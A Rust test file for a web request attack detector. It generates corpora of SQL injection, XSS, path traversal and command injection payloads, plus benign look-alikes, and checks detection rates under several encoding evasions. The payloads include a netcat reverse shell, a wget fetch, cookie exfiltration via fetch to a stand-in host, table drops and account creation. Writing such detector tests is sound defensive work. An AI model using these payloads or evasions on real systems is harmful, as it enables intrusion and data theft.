//! Floors of quality over a corpus of our own: attacks put together from parts, and what only looks like them.
//!
//! The figures of docs/detection.md come from public corpora that are not part of the project; this corpus keeps a
//! change from losing a class unnoticed.

use std::collections::BTreeMap;

use watchpost_detect::inspect_request;

use crate::support::percent;

/// One class: what it is called, its attacks, and the least share of attacks found and named, in percent.
struct Class {
    name: &'static str,
    attacks: Vec<String>,
    floor: usize,
}

/// Every `{}` of `forms` filled with every one of `parts`.
fn fill(forms: &[&str], parts: &[&str]) -> Vec<String> {
    forms.iter().flat_map(|form| parts.iter().map(move |part| form.replace("{}", part))).collect()
}

fn sqli() -> Vec<String> {
    let mut all = fill(
        &["7 or {}", "x' or {} -- ", "x') and {}#", "7/**/or/**/{}", "\" or {} /*"],
        &["1=1", "'p'='p'", "9 like 9", "not 1=2", "length(user())>0", "exists(select 1 from staff)"],
    );
    all.extend(fill(
        &["{}", "3 {}", "3' {}", "-3) {}--"],
        &[
            "union select 1,2,3",
            "UNION ALL SELECT null,login from members",
            "and sleep(8)",
            "; drop table members--",
            "order by 9--",
            "and extractvalue(1,concat(0x7e,user()))",
        ],
    ));
    all.extend(
        [
            "root'--",
            "root' #",
            "bob')/*",
            "x'||(select pin from cards)||'",
            "1or1=1",
            "8;waitfor delay '0:0:8'--",
        ]
        .map(str::to_owned),
    );
    // Words alone are prose; the union needs the value that it is appended to or a list.
    all.retain(|text| !text.starts_with("and ") && !text.starts_with("order "));
    all
}

fn xss() -> Vec<String> {
    let mut all = fill(
        &["{}", "\">{}", "'/>{}", "</title>{}"],
        &[
            "<script>alert(7)</script>",
            "<img src=q onerror=alert(7)>",
            "<svg/onload=confirm(7)>",
            "<iframe src=javascript:alert(7)>",
            "<a href=\"javascript:x()\">go</a>",
            "<body onpageshow=alert(7)>",
            "<math><mi xlink:href=\"data:x,y\">",
            "<object data=//h.example/x>",
        ],
    );
    all.extend(
        [
            "\" onfocus=\"alert(7)\" autofocus=\"",
            "';alert(7);//",
            "javascript:alert(document.domain)",
            "data:text/html,<b>hi",
            "self['al'+'ert'](7)",
            "f=eval;f(name)",
            "[7].find(alert)",
            "(alert)(7)",
            "x'-alert(7)-'",
            "document['cookie']",
            "location.assign(name)",
            "fetch('//h.example/'+document.cookie)",
        ]
        .map(str::to_owned),
    );
    all
}

fn traversal() -> Vec<String> {
    let mut all = fill(
        &["../../{}", "../../../../../../{}", "..\\..\\..\\{}", "....//....//{}", "img/../../../{}", "/{}"],
        &[
            "etc/passwd",
            "etc/shadow",
            "proc/self/environ",
            "windows/win.ini",
            "WEB-INF/web.xml",
            "var/log/auth.log",
        ],
    );
    all.extend(
        [
            "php://filter/resource=a.php",
            "file:///etc/hosts",
            "c:\\windows\\system32\\drivers\\etc\\hosts",
            "expect://id",
            "zip://a.zip#b.php",
        ]
        .map(str::to_owned),
    );
    all
}

fn cmdi() -> Vec<String> {
    let mut all = fill(
        &["; {}", "x | {}", "10.0.0.1 && {}", "$({})", "`{}`", "a || {} #"],
        &[
            "id",
            "cat /etc/issue",
            "wget http://h.example/a",
            "uname -a",
            "sleep 9",
            "nc -e /bin/sh 10.0.0.9 4444",
            "whoami",
            "ls -la /srv",
        ],
    );
    all.extend(
        [
            ";w'h'oami",
            ";c$@at /etc/issue",
            ";cat${IFS}/etc/issue",
            "/b?n/c?t /etc/issue",
            "{head,/etc/issue}",
            "n=nc;$n -lvp 4444",
            "for %i in (*) do del %i",
            "if exist c:\\a.txt del c:\\a.txt",
            "& net user eve pw /add",
            "powershell -enc AAAA",
        ]
        .map(str::to_owned),
    );
    all
}

/// What people write who attack nobody: at least as long as the list of any class of attacks.
fn near_misses() -> Vec<String> {
    let mut all = fill(
        &[
            "Do you want {} or not?",
            "We ordered {} and it came on time; thanks & bye",
            "it's {} that counts",
            "{} (see page 9)",
        ],
        &[
            "tea",
            "the union select committee",
            "a drop table for the garden",
            "O'Neill's book",
            "C# and F#",
            "rock 'n' roll",
            "salt & pepper; find your taste",
            "a <b> or c > d",
            "3 of 5",
            "Tom's cat -- the black one",
            "50% off",
            "the script: act one",
            "https://example.org/a?b=1&c=2",
            "path/to/file.txt",
            "the alert level",
            "more or less 10",
        ],
    );
    all.extend(
        [
            "SELECT your seat",
            "and then there were none",
            "select a plan from the list",
            "order by phone",
            "1 or 2 people",
            "O'Brien",
            "d'Artagnan & friends",
            "on error resume",
            "onboarding = done",
            "../logo.png",
            "wait... / what",
            "etc., and so on",
            "cat and dog",
            "ping me later",
            "the id of the order",
            "sort by price; then by name",
            "a | b | c",
            "{name}",
            "price > 10 and price < 20",
            "if a == b",
            "for the record",
            "x = [] or {}",
            "function of time",
            "Mr. & Mrs. Smith",
            "2026-03-02T10:00:00Z",
            "deadbeef0123456789abcdef",
            "+49 30 1234567",
            "user@example.org",
            "Zürich, Île-de-France",
            "日本語のテキスト",
            "#1 in sales",
            "-- sent from my phone",
            "50-50 chance; who knows",
            "100% (really)",
            "<3",
            ":-)",
            "a/b testing",
            "C:",
            "node.js vs. go",
            "time flies",
            "who is it",
        ]
        .map(str::to_owned),
    );
    all
}

fn names(query: &str) -> Vec<&'static str> {
    let verdict = inspect_request("GET", &format!("/search?q={query}&page=2"), &BTreeMap::new(), None);
    verdict.categories.iter().map(|family| family.as_str()).collect()
}

fn classes() -> [Class; 4] {
    [
        Class { name: "sqli", attacks: sqli(), floor: 98 },
        Class { name: "xss", attacks: xss(), floor: 98 },
        Class { name: "traversal", attacks: traversal(), floor: 98 },
        Class { name: "cmdi", attacks: cmdi(), floor: 93 },
    ]
}

#[test]
fn each_class_is_found_and_named() {
    for class in classes() {
        assert!(class.attacks.len() >= 40, "{}: {} attacks", class.name, class.attacks.len());
        let missed: Vec<&String> =
            class.attacks.iter().filter(|attack| !names(&percent(attack)).contains(&class.name)).collect();
        let n_found = class.attacks.len() - missed.len();
        assert!(
            n_found * 100 >= class.attacks.len() * class.floor,
            "{}: {n_found} of {}, missed {missed:#?}",
            class.name,
            class.attacks.len()
        );
    }
}

#[test]
fn what_only_looks_like_an_attack_is_left_alone() {
    let all = near_misses();
    assert!(all.len() >= 80, "{} near-misses", all.len());
    let flagged: Vec<(&String, Vec<&str>)> =
        all.iter().map(|text| (text, names(&percent(text)))).filter(|(_, names)| !names.is_empty()).collect();
    assert!(flagged.len() * 100 <= all.len() * 2, "{} of {}: {flagged:#?}", flagged.len(), all.len());
}

fn base64(text: &str) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in text.as_bytes().chunks(3) {
        let bits =
            chunk.iter().fold(0_u32, |all, &byte| all << 8 | u32::from(byte)) << (8 * (3 - chunk.len()));
        for nth in 0..4 {
            let six = (bits >> (18 - 6 * nth)) & 63;
            out.push(if nth > chunk.len() { '=' } else { char::from(ALPHABET[six as usize]) });
        }
    }
    out
}

/// Each way of hiding an attack, and the least share of all attacks that is still named, in percent.
#[test]
fn evasions_do_not_hide_the_classes() {
    type Hide = fn(&str) -> String;
    let wide: Hide =
        |text| {
            text.chars()
                .map(|ch| {
                    if ch.is_ascii_alphanumeric() {
                        ch.to_string()
                    } else {
                        format!("%u{:04x}", u32::from(ch))
                    }
                })
                .collect()
        };
    let overlong: Hide = |text| {
        text.bytes()
            .map(|byte| match byte {
                byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
                byte => format!("%{:02x}%{:02x}", 0xc0 | byte >> 6, 0x80 | byte & 0x3f),
            })
            .collect()
    };
    let mixed: Hide = |text| {
        let swapped: String = text
            .chars()
            .enumerate()
            .map(|(n, ch)| if n % 2 == 0 { ch.to_ascii_uppercase() } else { ch.to_ascii_lowercase() })
            .collect();
        percent(&swapped)
    };
    let ways: [(&str, Hide, usize); 6] = [
        ("double encoding", |text| percent(&percent(text)), 97),
        ("%u encoding", wide, 97),
        ("overlong UTF-8", overlong, 95),
        ("mixed case", mixed, 95),
        ("base64", |text| percent(&base64(text)), 70),
        (
            "JSON escapes",
            |text| percent(&text.chars().map(|ch| format!("\\u{:04x}", u32::from(ch))).collect::<String>()),
            90,
        ),
    ];
    for (way, hide, floor) in ways {
        let all: Vec<(&str, String)> = classes()
            .iter()
            .flat_map(|class| class.attacks.iter().map(|attack| (class.name, attack.clone())))
            .collect();
        let missed: Vec<&(&str, String)> =
            all.iter().filter(|(name, attack)| !names(&hide(attack)).contains(name)).collect();
        let n_found = all.len() - missed.len();
        assert!(n_found * 100 >= all.len() * floor, "{way}: {n_found} of {}, missed {missed:#?}", all.len());
    }
}
